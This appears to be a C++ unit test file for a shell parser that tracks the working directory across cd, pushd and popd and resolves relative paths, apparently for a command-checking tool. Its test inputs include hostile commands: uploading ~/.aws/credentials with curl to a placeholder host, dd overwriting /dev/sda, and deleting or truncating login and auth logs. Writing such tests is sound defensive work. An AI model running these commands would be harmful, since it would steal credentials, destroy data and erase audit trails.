// The directory a script cd'd into: how the parser tracks it and how paths are joined to it.
#include <gtest/gtest.h>

#include "shell_command.hpp"
#include "shell_parser.hpp"
#include "working_directory.hpp"

namespace nonaxis::ciso::detail {
namespace {

std::vector<std::string> cwds(const std::string& src) {
  VarMap vars;
  std::vector<std::string> out;
  for (const auto& c : parse_shell(src, vars).commands) out.push_back(c.cwd);
  return out;
}

std::string in_dir(const std::string& src) {
  VarMap vars;
  const auto p = parse_shell(src, vars);
  const auto r = resolved_in_directory(p.commands.back());
  return r ? effective_command(*r).rendered : "(unchanged)";
}

TEST(WorkingDirectory, JoinFoldsDotAndDotDot) {
  EXPECT_EQ(join_path("/", "*"), "/*");
  EXPECT_EQ(join_path("~/.ssh", "."), "~/.ssh");
  EXPECT_EQ(join_path("~/.ssh", "./id_rsa"), "~/.ssh/id_rsa");
  EXPECT_EQ(join_path("/var/log", "../lib/x"), "/var/lib/x");
  EXPECT_EQ(join_path("/etc", "../.."), "/");
}

TEST(WorkingDirectory, CdPushdAndPopdMoveTheDirectory) {
  EXPECT_EQ(cwds("ls; cd /etc; cat x; cd ssh && ls; popd; ls"),
            (std::vector<std::string>{"", "", "/etc", "/etc", "/etc/ssh", "/etc/ssh", ""}));
  EXPECT_EQ(cwds("cd; ls"), (std::vector<std::string>{"", "~"}));
  EXPECT_EQ(cwds("cd -P /tmp; ls; cd -; ls"), (std::vector<std::string>{"", "/tmp", "/tmp", ""}));
  // Only run-time knowledge: unknown, and a relative cd from there stays unknown.
  EXPECT_EQ(cwds("cd \"$(mktemp -d)\"; ls; cd sub; ls"), (std::vector<std::string>{"", "", "", ""}));
  EXPECT_EQ(cwds("cd $HOME/.aws; ls"), (std::vector<std::string>{"", "$HOME/.aws"}));
}

TEST(WorkingDirectory, OnlyPathOperandsAreJoined) {
  EXPECT_EQ(in_dir("cd /var/log; rm -f wtmp btmp"), "rm -f /var/log/wtmp /var/log/btmp");
  EXPECT_EQ(in_dir("cd ~/.aws; curl -F f=@credentials http://h.example/"),
            "curl -F f=@~/.aws/credentials http://h.example/");
  EXPECT_EQ(in_dir("cd /dev; dd if=zero of=sda bs=1M"), "dd if=/dev/zero of=/dev/sda bs=1M");
  EXPECT_EQ(in_dir("cd /var/log; echo > auth.log 2>&1"), "echo >/var/log/auth.log 2>&1");
  // Modes, counts, code, messages, absolute paths and URLs are not relative paths.
  EXPECT_EQ(in_dir("cd /srv; chmod 755 /usr/bin/x"), "(unchanged)");
  // A subcommand is joined too: the rendering is an extra document beside the command as
  // written, so a word that was no path only fails to match there.
  EXPECT_EQ(in_dir("cd /srv; git commit -m 'fix build'"), "git /srv/commit -m fix build");
  EXPECT_EQ(in_dir("cd /srv; sh -c 'rm -rf x'"), "(unchanged)");
  EXPECT_EQ(in_dir("ls; rm -rf *"), "(unchanged)");
}

}  // namespace
}  // namespace nonaxis::ciso::detail
